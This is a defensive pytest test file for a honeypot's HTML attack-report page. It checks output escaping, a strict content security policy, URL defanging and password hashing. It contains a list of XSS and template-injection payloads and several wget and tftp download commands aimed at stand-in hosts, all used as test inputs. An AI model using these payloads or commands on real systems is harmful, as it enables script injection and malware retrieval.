"""The page of attacks: what it says, and that nothing that attackers wrote becomes more than text."""

import os
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from cowrie_pipeline.cowrie.passwords import sha1_of
from cowrie_pipeline.settings import Settings
from cowrie_pipeline.steps.asn_session_counts import count_sessions
from cowrie_pipeline.steps.attack_page import (
    ROLLING_PAGE,
    PageError,
    page_of_day,
    render_page,
    renew_retired_pages,
    write_page,
)
from cowrie_pipeline.steps.attack_report import (
    AttackReport,
    Command,
    CountryRow,
    Credential,
    FieldCoverage,
    FileRow,
    Moment,
    NetworkRow,
    NewNetwork,
    Quality,
    SensorRow,
    Totals,
    gather_attack_report,
    last_30_days,
)
from cowrie_pipeline.steps.charts import bar_chart, image_of, templates
from cowrie_pipeline.steps.harmless import harmless
from cowrie_pipeline.steps.retention import drop_old_details
from cowrie_pipeline.warehouse.engine import Warehouse
from cowrie_pipeline_tests.steps.made_days import (
    NOW,
    World,
    closed,
    command,
    connect,
    download,
    load_events,
    login,
    span,
)
from cowrie_pipeline_tests.steps.test_session_snapshots import take

HOSTILE = (
    '"><script>alert(1)</script>',
    "'; onload=alert(1) x='",
    "<img src=x onerror=alert(1)>",
    "</style><svg/onload=alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(1)",
    "<!-- --><![CDATA[",
    "\u202egnp.exe\u2066",
    "\x1b[31mred\x07",
    "&lt;b&gt;",
    "wget http://203.0.113.9/x.sh?a=1&b=2",
)


def made_report(text: str = "x", **changes: Any) -> AttackReport:
    """Make a report all of whose texts are `text`."""
    day = date(2026, 3, 1)
    report = AttackReport(
        days=span("2026-03-01"),
        made_at=NOW,
        totals=Totals(12_345, 2, 3, 4, 5, 6, 7, 8, 9),
        by_day=(Moment(day, None, 12_345, 1),),
        hours=(Moment(day, 5, 12_345, 1),),
        countries=(CountryRow(text, 10, 0.5, 1, 1), CountryRow(None, 10, 0.5, 1, 1)),
        networks=(NetworkRow(64_500, text, text, text, 10, 0.5, 3, (1, 0, 2)),),
        new_networks=(NewNetwork(64_500, text, text, text, day, 10),),
        new_networks_are_cut=True,
        credentials=(Credential(text, text, 5, 1, None), Credential(None, None, 5, 1, 7)),
        passwords_are_hashed=False,
        commands=(Command(text, 5, 1),),
        files=(FileRow(text, 3, text, text, None, None, text, text), FileRow("ab" * 32, 3, None, "hit", 5, 0, "", "")),
        coverage=(FieldCoverage(text, text, 10, 5, (0.5, None, 1.0)),),
        sensors=(SensorRow(text, 5, NOW),),
        quality=Quality(1, 2, 3, (day,), (day,), 4, 5, 6, 7, 8, 9, ((text, 5),)),
    )
    return replace(report, **changes)


class Parsed(HTMLParser):
    """What a browser makes of a page: elements with the names of their attributes, and the values of some."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.values: list[tuple[str, str]] = []
        self.other: list[str] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.values += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


# what somebody who attacks pages would send, whole or in pieces
_texts = st.lists(
    st.one_of(st.sampled_from(HOSTILE), st.text(max_size=12), st.sampled_from(list("<>\"'&=/`{}%#;-!\\")))
).map("".join)
# a part of a page that a text leaves out would not be the same page
_filled = _texts.filter(bool)


@hypothesis_settings(max_examples=150, deadline=None)
@given(_filled)
def test_no_element_and_no_attribute_comes_from_data(text: str) -> None:
    plain, hostile = Parsed(render_page(made_report())), Parsed(render_page(made_report(text)))
    assert hostile.elements == plain.elements
    assert hostile.other == plain.other == []


@pytest.mark.parametrize("text", HOSTILE)
def test_what_attackers_write_is_in_no_attribute_that_does_something(text: str) -> None:
    page = Parsed(render_page(made_report(text)))
    assert {value for name, value in page.values if name in {"href", "src"} and not value.startswith("#")} == {"data:,"}
    assert not [name for name, _ in page.values if name.startswith("on") or name == "style"]
    assert "script" not in {tag for tag, _ in page.elements}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_picture_that_stands_alone_is_as_harmless(text: str) -> None:
    drawn = templates().get_template("picture.svg").render(chart=bar_chart(text, [(text, 3)]), kind="bars")
    plain = templates().get_template("picture.svg").render(chart=bar_chart("x", [("x", 3)]), kind="bars")
    assert Parsed(drawn).elements == Parsed(plain).elements
    assert image_of(bar_chart(text, [(text, 3)])).startswith("data:image/svg+xml;base64,")


def test_the_policy_of_the_page_allows_its_own_style_sheet_and_nothing_else() -> None:
    page = Parsed(render_page(made_report()))
    (policy,) = [value for _, value in page.values if value.startswith("default-src")]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy
    assert "script-src" not in policy


def test_no_template_switches_escaping_off() -> None:
    environment = templates()
    for name in environment.list_templates(extensions=["html", "svg"]):
        source = environment.loader.get_source(environment, name)[0]  # type: ignore[union-attr]
        assert "safe" not in source, name
        assert "autoescape" not in source, name


@given(st.text())
def test_harmless_text_has_nothing_that_cannot_be_seen_and_stays_what_it_is(text: str) -> None:
    shown = harmless(text)
    assert all(character.isprintable() for character in shown.replace("\u3000", " ").replace("\xa0", " ")), shown
    assert harmless(shown, longest=10_000) == shown
    assert len(shown) <= 321


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, "–"),  # noqa: RUF001
        (True, "yes"),
        (1_234_567, "1,234,567"),
        (datetime(2026, 3, 1, 10, tzinfo=UTC), "2026-03-01 10:00 UTC"),
        ("wget http://203.0.113.9/x.sh", "wget hxxp://203[.]0[.]113[.]9/x.sh"),
        ("HTTPS://evil.example.com:8080/a.b", "hxxps://evil[.]example[.]com:8080/a.b"),
        ("ftp://a.example/x;tftp -r x 198.51.100.7", "fxp://a[.]example/x;tftp -r x 198[.]51[.]100[.]7"),
        ("a\u202eb", "a\\u202eb"),
        ("\x1b[2J", "\\x1b[2J"),
        ("nul \u241b0000", "nul \\x00"),
        ("half \ud800", "half \\ud800"),
        ("line\nline", "line\\nline"),
        ("e\u0301\u0301\u0301", "e\u0301\u0301\\u0301"),
        ("a" * 200, "a" * 160 + "…"),
    ],
)
def test_what_is_shown_deceives_nobody(value: object, shown: str) -> None:
    assert harmless(value) == shown


@pytest.fixture
def attacked(warehouse: Warehouse, tmp_path: Path) -> Warehouse:
    """Three sessions on one day and one on the day before, with everything that a page shows."""
    events = [
        connect("2026-03-01 23:00:00", session="a0"),
        login("2026-03-01 23:00:01", session="a0"),
        closed("2026-03-01 23:00:02", session="a0"),
    ]
    for number in range(3):
        of = {"session": f"b{number}", "src_ip": f"45.9.148.{number + 1}"}
        events += [
            connect(f"2026-03-02 10:00:0{number}", **of),
            login(f"2026-03-02 10:01:0{number}", succeeded=True, username="<b>root", password="hunter2", **of),
            command(f"2026-03-02 10:02:0{number}", "wget http://203.0.113.9/<script>", **of),
            download(f"2026-03-02 10:03:0{number}", "ab" * 32, **of),
            closed(f"2026-03-02 11:04:0{number}", **of),
        ]
    load_events(warehouse, tmp_path, events)
    World(lambda address: 64_501 if address.startswith("45.") else 64_500).enrich(warehouse, "2026-03-01", "2026-03-02")
    take(warehouse, now=NOW, first="2026-03-01", last="2026-03-02")
    with warehouse.begin(lock="facts") as connection:
        count_sessions(connection, span("2026-03-01", "2026-03-02"))
    return warehouse


def gathered(
    warehouse: Warehouse, first: str, last: str | None = None, *, hash_passwords: bool = False
) -> AttackReport:
    with warehouse.read() as connection:
        return gather_attack_report(connection, span(first, last), now=NOW, hash_passwords=hash_passwords)


def test_a_day_is_told_from_what_is_stored(attacked: Warehouse) -> None:
    report = gathered(attacked, "2026-03-02")
    assert report.totals == Totals(
        sessions=3,
        addresses=3,
        networks=1,
        countries=1,
        log_ins=3,
        successful_log_ins=3,
        commands=3,
        downloads=3,
        uploads=0,
    )
    assert [(each.hour, each.sessions) for each in report.hours if each.sessions] == [(10, 3)]
    assert [(str(each.day), each.sessions) for each in report.by_day if each.sessions] == [
        ("2026-03-01", 1),
        ("2026-03-02", 3),
    ]
    assert len(report.by_day) == 30
    (network,) = report.networks
    assert (network.asn, network.organization, network.sessions, network.before) == (64_501, "Network 64501", 3, 0)
    assert network.trend[-2:] == (0, 3)
    assert [each.asn for each in report.new_networks] == [64_501]
    assert report.credentials == (Credential("<b>root", "hunter2", 3, 3, None),)
    assert report.commands == (Command("wget http://203.0.113.9/<script>", 3, 3),)
    (file,) = report.files
    assert (file.sha256, file.transfers, file.status) == ("ab" * 32, 3, None)
    assert {each.share for each in report.coverage if each.field == "current_asn"} == {1.0}
    assert report.quality.events == 15
    assert not report.quality.not_loaded
    page = render_page(report)
    assert "hxxp://203[.]0[.]113[.]9/&lt;script&gt;" in page
    assert "&lt;b&gt;root" in page
    assert "never asked" in page


def test_passwords_are_shown_by_their_hash_if_that_is_set(attacked: Warehouse) -> None:
    report = gathered(attacked, "2026-03-01", "2026-03-02", hash_passwords=True)
    assert {each.password for each in report.credentials} == {f"sha1:{sha1_of(each)}" for each in ("hunter2", "1234")}
    assert report.credentials[0].attempts == 3
    assert "hunter2" not in render_page(report)


def test_thirty_days_end_with_the_newest_that_has_sessions(attacked: Warehouse) -> None:
    with attacked.read() as connection:
        assert last_30_days(connection, today=date(2026, 3, 10)) == span("2026-02-01", "2026-03-02")
        assert last_30_days(connection, today=date(2026, 3, 1)) == span("2026-01-31", "2026-03-01")
    report = gathered(attacked, "2026-02-01", "2026-03-02")
    assert report.hours == ()
    assert len(report.quality.not_loaded) == 28
    assert "Nothing was loaded for 28 days" in render_page(report)


def test_an_empty_database_has_a_page(warehouse: Warehouse) -> None:
    with warehouse.read() as connection:
        assert last_30_days(connection, today=date(2026, 3, 10)).last == date(2026, 3, 10)
    assert "Nothing to show." in render_page(gathered(warehouse, "2026-03-02"))


def test_details_that_retention_removed_leave_the_page_too(attacked: Warehouse, tmp_path: Path) -> None:
    settings = Settings(state_dir=tmp_path)
    path = write_page(gathered(attacked, "2026-03-02"), page_of_day(settings.reports_folder, date(2026, 3, 2)))
    assert "hunter2" in path.read_text()
    rolling = write_page(gathered(attacked, "2026-02-01", "2026-03-02"), settings.reports_folder / ROLLING_PAGE)
    assert "hunter2" in rolling.read_text()
    assert renew_retired_pages(attacked, settings, now=NOW) == ()
    later = datetime.now(UTC) + timedelta(seconds=2)
    drop_old_details(attacked, keep_days=1, now=later)
    assert renew_retired_pages(attacked, settings, now=NOW) == (path, rolling)
    assert "hunter2" not in rolling.read_text()
    page = path.read_text()
    assert "hunter2" not in page
    assert "wget" not in page
    assert "The details of 2026-03-02 were removed" in page
    # of files the counts stay
    assert "ab" * 32 in page
    for each in (path, rolling):
        os.utime(each, (later.timestamp(), later.timestamp()))
    assert renew_retired_pages(attacked, settings, now=NOW) == ()


def test_a_page_replaces_the_one_before_whole(tmp_path: Path) -> None:
    path = tmp_path / "new" / "page.html"
    write_page(made_report("first"), path)
    write_page(made_report("second"), path)
    assert "second" in path.read_text()
    assert "first" not in path.read_text().replace("first day", "")
    assert list(path.parent.iterdir()) == [path]


def test_a_full_disk_is_told_and_the_earlier_page_stays(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = write_page(made_report("first"), tmp_path / "page.html")

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(PageError, match=r"page\.html \([0-9,]+ bytes\) could not be written: No space left on device"):
        write_page(made_report("second"), path)
    assert "first" in path.read_text()
    assert list(tmp_path.iterdir()) == [path]
